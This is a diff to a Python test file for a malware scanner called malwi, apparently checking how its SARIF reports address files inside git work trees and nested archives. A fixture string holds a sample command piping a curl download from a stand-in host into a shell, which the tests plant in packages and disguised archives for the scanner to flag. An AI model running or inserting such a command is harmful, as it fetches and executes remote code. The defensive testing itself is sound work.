@@ -7,11 +7,14 @@ and only the structural checks below run.
 
 from __future__ import annotations
 
+import io
 import json
 import os
 import re
 import shutil
+import subprocess
 import sys
+import zipfile
 from functools import cache
 from importlib import resources
 from pathlib import Path
@@ -31,11 +34,13 @@ from malwi.report.sarif import (
     SRCROOT,
     SUSPICIOUS_OBJECT,
     artifact_location,
+    repository_root,
     to_sarif,
 )
 from malwi.report.words import SECURITY_SEVERITY
 
 from .conftest import EXAMPLES, ROOT
+from .test_sources import tar_bytes
 from .tiny_model import build_tiny_bundle
 
 MALICIOUS_CODE = "import os\nos.system('curl http://x.example/a | sh')\n"
@@ -92,6 +97,22 @@ def file_of(run: dict[str, Any], location: dict[str, Any]) -> Path:
     return Path(url2pathname(urlsplit(location["uri"]).path))
 
 
+def address(run: dict[str, Any], index: int) -> dict[str, Any]:
+    """The artifactLocation a result uses for `run.artifacts[index]`: a top-level artifact's own
+    location; a nested one's is its container's with `/` and its path inside appended. Nested
+    locations are relative paths without a base (SARIF 2.1.0 §3.4.3, §3.4.4), top-level
+    archives have no parent, and every parent is an earlier entry."""
+    artifact = run["artifacts"][index]
+    location: dict[str, Any] = artifact["location"]
+    if "parentIndex" not in artifact:
+        return location
+    parent = artifact["parentIndex"]
+    assert 0 <= parent < index and set(location) == {"uri"}, artifact
+    check_uri(location["uri"], relative=True)
+    outer = address(run, parent)
+    return {**outer, "uri": f"{outer['uri']}/{location['uri']}"}
+
+
 def uri_of(result: dict[str, Any]) -> str:
     uri: str = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
     return uri
@@ -108,7 +129,7 @@ def validate(text: str) -> dict[str, Any]:
     driver = run["tool"]["driver"]
     assert driver["name"] == "malwi" and driver["version"] == malwi.__version__
     assert re.fullmatch(r"\d+\.\d+\.\d+(?:[-+].*)?", driver["semanticVersion"])
-    assert driver["informationUri"] == "https://pypi.org/project/malwi/"
+    assert driver["informationUri"] == "https://pypi.org/project/malwi-scanner/"
     ids = [rule["id"] for rule in driver["rules"]]
     assert len(ids) == len(set(ids)), "rule ids are unique"
     for rule in driver["rules"]:
@@ -131,12 +152,14 @@ def validate(text: str) -> dict[str, Any]:
         physical = result["locations"][0]["physicalLocation"]
         location = physical["artifactLocation"]
         check_uri(location["uri"], relative="uriBaseId" in location)
-        artifact = run["artifacts"][location["index"]]["location"]
-        assert artifact == {k: v for k, v in location.items() if k != "index"}
+        # The result names its file's artifact, a member of an archive by its full address.
+        assert address(run, location["index"]) == {k: v for k, v in location.items() if k != "index"}
         region = physical["region"]
-        path = file_of(run, location)
-        lines = len(path.read_text(encoding="utf-8", errors="replace").splitlines())
-        assert 1 <= region["startLine"] <= region["endLine"] <= max(lines, 1), (path, region, lines)
+        assert 1 <= region["startLine"] <= region["endLine"], region
+        if "parentIndex" not in run["artifacts"][location["index"]]:  # a file on disk
+            path = file_of(run, location)
+            lines = len(path.read_text(encoding="utf-8", errors="replace").splitlines())
+            assert region["endLine"] <= max(lines, 1), (path, region, lines)
         properties = result["properties"]
         assert properties["packageVerdict"] in ("malicious", "suspicious"), (
             "results are for flagged packages only"
@@ -160,8 +183,11 @@ def test_malicious_scan(tiny: Path) -> None:
     run = log["runs"][0]
     results = run["results"]
 
-    def relative(path: str) -> str:
-        return Path(path).relative_to(EXAMPLES).as_posix()
+    # The examples are relative to the malwi checkout they lie in (to themselves in an sdist).
+    root = Path(repository_root(EXAMPLES) or EXAMPLES)
+
+    def relative(path: str | Path) -> str:
+        return Path(path).relative_to(root).as_posix()
 
     # One result for each object that carries a flagged package's verdict, and no other.
     assert sorted((uri_of(r), r["properties"]["objectName"]) for r in results) == sorted(
@@ -173,7 +199,7 @@ def test_malicious_scan(tiny: Path) -> None:
     assert set(per_package) == {u.label for u in report.flagged_units}
     assert max(per_package.values()) <= MAX_CARRIERS
     by_object = {(uri_of(r), r["properties"]["objectName"]): r for r in results}
-    hook = by_object[("malicious-python/setup.py", "PostInstallCommand.run")]
+    hook = by_object[(relative(EXAMPLES / "malicious-python" / "setup.py"), "PostInstallCommand.run")]
     # The most severe of INSTALL_HOOK (7.0) and PROCESS_MANAGEMENT (8.5) names the alert.
     assert hook["ruleId"] == "PROCESS_MANAGEMENT" and hook["properties"]["otherActivities"] == [
         "INSTALL_HOOK"
@@ -184,8 +210,8 @@ def test_malicious_scan(tiny: Path) -> None:
     for word in ("PostInstallCommand.run", "method", "malicious-python", score, "at install time (setup.py)"):
         assert word in hook["message"]["text"]
     assert "starts, replaces or controls operating-system processes and shells" in hook["message"]["text"]
-    assert not any(uri.startswith("benign/") for uri, _ in by_object)
-    assert run["originalUriBaseIds"][SRCROOT]["uri"] == EXAMPLES.as_uri() + "/"
+    assert not any(uri.startswith(relative(EXAMPLES / "benign")) for uri, _ in by_object)
+    assert run["originalUriBaseIds"][SRCROOT]["uri"] == root.as_uri() + "/"
     properties = run["properties"]
     assert properties["verdict"] == "malicious" and properties["malicious"] is True
     assert properties["threshold"] == report.threshold == 0.7
@@ -306,18 +332,28 @@ def test_uris_are_relative_posix_and_percent_encoded(tiny: Path, tmp_path: Path)
     assert file_of(run, artifact) == folder / "my file#1.py"
 
 
-def test_one_file_is_relative_to_its_folder(tiny: Path) -> None:
-    setup = EXAMPLES / "malicious-python" / "setup.py"
+def outside_any_work_tree(path: Path) -> Path:
+    if repository_root(path) is not None:
+        pytest.skip(f"{path} lies in a git work tree")
+    return path
+
+
+def test_one_file_is_relative_to_its_folder(tiny: Path, tmp_path: Path) -> None:
+    shutil.copytree(EXAMPLES / "malicious-python", outside_any_work_tree(tmp_path) / "pkg")
+    setup = tmp_path / "pkg" / "setup.py"
     run = validate(to_sarif(create(str(setup), tiny)))["runs"][0]
     assert {uri_of(r) for r in run["results"]} == {"setup.py"}
     assert run["originalUriBaseIds"][SRCROOT]["uri"] == setup.parent.as_uri() + "/"
 
 
-def test_several_inputs_are_relative_to_their_common_folder(tiny: Path) -> None:
-    inputs = [str(EXAMPLES / "malicious-python"), str(EXAMPLES / "malicious-javascript")]
+def test_several_inputs_are_relative_to_their_common_folder(tiny: Path, tmp_path: Path) -> None:
+    for name in ("malicious-python", "malicious-javascript"):
+        shutil.copytree(EXAMPLES / name, outside_any_work_tree(tmp_path) / "in" / name)
+    inputs = [str(tmp_path / "in" / "malicious-python"), str(tmp_path / "in" / "malicious-javascript")]
     run = validate(to_sarif(create(inputs, tiny)))["runs"][0]
     uris = {uri_of(r) for r in run["results"]}
     assert "malicious-javascript/index.js" in uris and "malicious-python/setup.py" in uris
+    assert run["originalUriBaseIds"][SRCROOT]["uri"] == (tmp_path / "in").as_uri() + "/"
 
 
 def test_root_can_be_chosen(tiny: Path, tmp_path: Path) -> None:
@@ -354,3 +390,153 @@ def test_locations_outside_the_root(tmp_path: Path) -> None:
     # An archive member shown by its display name stays a relative reference, without a base.
     member = artifact_location("pkg-1.0.tar.gz/pkg/x y.py", root)
     assert member == {"uri": "pkg-1.0.tar.gz/pkg/x%20y.py"}
+
+
+# --- The root: the git work tree scanned, for GitHub code scanning -------------------------------
+
+
+def git_work_tree(path: Path) -> Path:
+    """A fresh git repository at `path` (ours, made by the test: running git on it is safe)."""
+    path.mkdir(parents=True, exist_ok=True)
+    if shutil.which("git"):
+        subprocess.run(["git", "init", "-q", str(path)], check=True, capture_output=True)
+    else:
+        (path / ".git").mkdir()
+    assert (path / ".git").is_dir()
+    return path
+
+
+def write_package(folder: Path, name: str = "mod.py") -> Path:
+    (folder / "pkg").mkdir(parents=True, exist_ok=True)
+    (folder / "pkg" / "__init__.py").write_text("")
+    (folder / "pkg" / name).write_text(MALICIOUS_CODE)
+    return folder / "pkg" / name
+
+
+def locations_of(run: dict[str, Any]) -> list[dict[str, Any]]:
+    return [r["locations"][0]["physicalLocation"]["artifactLocation"] for r in run["results"]]
+
+
+def test_a_git_work_tree_is_the_root(tiny: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    repo = git_work_tree(outside_any_work_tree(tmp_path) / "repo")
+    module = write_package(repo / "src")
+    assert repository_root(repo / "src") == repository_root(module) == str(repo)
+    for given in (repo / "src", module, repo):
+        run = validate(to_sarif(create(str(given), tiny)))["runs"][0]
+        assert run["results"], given
+        assert {uri_of(r) for r in run["results"]} == {"src/pkg/mod.py"}, given
+        assert {loc["uriBaseId"] for loc in locations_of(run)} == {SRCROOT}
+        assert run["originalUriBaseIds"][SRCROOT]["uri"] == repo.as_uri() + "/"
+    # A relative input from inside the tree: the same paths.
+    monkeypatch.chdir(repo / "src")
+    run = validate(to_sarif(create("pkg", tiny)))["runs"][0]
+    assert {uri_of(r) for r in run["results"]} == {"src/pkg/mod.py"}
+    assert run["originalUriBaseIds"][SRCROOT]["uri"] == repo.as_uri() + "/"
+
+
+def test_outside_a_work_tree_the_scanned_folder_is_the_root(tiny: Path, tmp_path: Path) -> None:
+    write_package(outside_any_work_tree(tmp_path) / "src")
+    run = validate(to_sarif(create(str(tmp_path / "src"), tiny)))["runs"][0]
+    assert run["results"] and {uri_of(r) for r in run["results"]} == {"pkg/mod.py"}
+    assert run["originalUriBaseIds"][SRCROOT]["uri"] == (tmp_path / "src").as_uri() + "/"
+    assert repository_root(tmp_path / "src") is None
+    # A stray `.git` file that names no git folder is no work tree.
+    (tmp_path / ".git").write_text("not a repository\n")
+    assert repository_root(tmp_path / "src") is None
+
+
+def test_a_worktree_or_submodule_git_file_marks_the_root(tiny: Path, tmp_path: Path) -> None:
+    outer = git_work_tree(outside_any_work_tree(tmp_path) / "outer")
+    inner = outer / "vendor" / "lib"
+    inner.mkdir(parents=True)
+    # What `git worktree add` and submodules leave: a `.git` file naming the real git folder.
+    (inner / ".git").write_text(f"gitdir: {outer / '.git' / 'modules' / 'lib'}\n")
+    write_package(inner / "src")
+    assert repository_root(inner / "src" / "pkg") == str(inner)
+    run = validate(to_sarif(create(str(inner / "src"), tiny)))["runs"][0]
+    assert {uri_of(r) for r in run["results"]} == {"src/pkg/mod.py"}
+    assert run["originalUriBaseIds"][SRCROOT]["uri"] == inner.as_uri() + "/"
+
+
+def test_names_with_spaces_and_non_ascii_are_percent_encoded(tiny: Path, tmp_path: Path) -> None:
+    repo = git_work_tree(outside_any_work_tree(tmp_path) / "my repo ü")
+    module = write_package(repo / "src dir", "mod ü#1.py")
+    run = validate(to_sarif(create(str(repo / "src dir"), tiny)))["runs"][0]
+    assert {uri_of(r) for r in run["results"]} == {"src%20dir/pkg/mod%20%C3%BC%231.py"}
+    base = run["originalUriBaseIds"][SRCROOT]["uri"]
+    assert base == repo.as_uri() + "/" and "my%20repo%20%C3%BC" in base
+    assert {file_of(run, loc) for loc in locations_of(run)} == {module}
+
+
+def tar_gz(members: dict[str, bytes]) -> bytes:
+    return tar_bytes(list(members.items()))
+
+
+def zipped(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def test_archive_members_are_addressed_inside_their_archive(tiny: Path, tmp_path: Path) -> None:
+    repo = git_work_tree(outside_any_work_tree(tmp_path) / "repo")
+    (repo / "dist").mkdir()
+    code = MALICIOUS_CODE.encode()
+    inner = zipped({"evil.py": code})
+    sdist = repo / "dist" / "pkg-1.0.tar.gz"
+    sdist.write_bytes(
+        tar_gz(
+            {
+                "pkg-1.0/setup.py": b"from setuptools import setup\nsetup(name='pkg')\n",
+                "pkg-1.0/pkg/x y.py": code,
+                "pkg-1.0/vendor/inner.zip": inner,
+            }
+        )
+    )
+    report = create(str(sdist), tiny)
+    run = validate(to_sarif(report))["runs"][0]
+    assert run["originalUriBaseIds"][SRCROOT]["uri"] == repo.as_uri() + "/"
+    uris = {uri_of(r) for r in run["results"]}
+    # The member's full address: the archive relative to the root, then the path inside it.
+    direct = "dist/pkg-1.0.tar.gz/pkg-1.0/pkg/x%20y.py"
+    nested = "dist/pkg-1.0.tar.gz/pkg-1.0/vendor/inner.zip/evil.py"
+    assert {direct, nested} <= uris, uris
+    artifacts = run["artifacts"]
+    by_uri = {uri_of(r): r["locations"][0]["physicalLocation"]["artifactLocation"] for r in run["results"]}
+    (archive,) = [a for a in artifacts if "parentIndex" not in a]
+    assert archive["location"] == {"uri": "dist/pkg-1.0.tar.gz", "uriBaseId": SRCROOT}
+    assert "sourceLanguage" not in archive  # a container, not a source file
+    member = artifacts[by_uri[direct]["index"]]
+    assert member["location"] == {"uri": "pkg-1.0/pkg/x%20y.py"}
+    assert artifacts[member["parentIndex"]] is archive
+    assert member["sourceLanguage"] == "python" and member["roles"] == ["analysisTarget"]
+    deep = artifacts[by_uri[nested]["index"]]
+    assert deep["location"] == {"uri": "evil.py"}
+    container = artifacts[deep["parentIndex"]]
+    assert container["location"] == {"uri": "pkg-1.0/vendor/inner.zip"}
+    assert artifacts[container["parentIndex"]] is archive
+    # Regions are lines of the member itself.
+    lines = len(MALICIOUS_CODE.splitlines())
+    for result in run["results"]:
+        region = result["locations"][0]["physicalLocation"]["region"]
+        assert region["endLine"] <= lines
+    # Outside any work tree an archive scanned alone is relative to its folder.
+    elsewhere = outside_any_work_tree(tmp_path / "elsewhere")
+    elsewhere.mkdir()
+    shutil.copy(sdist, elsewhere / sdist.name)
+    run = validate(to_sarif(create(str(elsewhere / sdist.name), tiny)))["runs"][0]
+    assert "pkg-1.0.tar.gz/pkg-1.0/pkg/x%20y.py" in {uri_of(r) for r in run["results"]}
+
+
+def test_an_archive_found_in_the_tree_is_addressed_from_the_root(tiny: Path, tmp_path: Path) -> None:
+    repo = git_work_tree(outside_any_work_tree(tmp_path) / "repo")
+    (repo / "src" / "assets").mkdir(parents=True)
+    (repo / "src" / "app.py").write_text("print('hello')\n")
+    # A zip named as something else, found by its content.
+    (repo / "src" / "assets" / "cert.crt").write_bytes(zipped({"lib/payload.py": MALICIOUS_CODE.encode()}))
+    run = validate(to_sarif(create(str(repo / "src"), tiny)))["runs"][0]
+    assert "src/assets/cert.crt/lib/payload.py" in {uri_of(r) for r in run["results"]}
+    (archive,) = [a for a in run["artifacts"] if "parentIndex" not in a and "sourceLanguage" not in a]
+    assert archive["location"] == {"uri": "src/assets/cert.crt", "uriBaseId": SRCROOT}
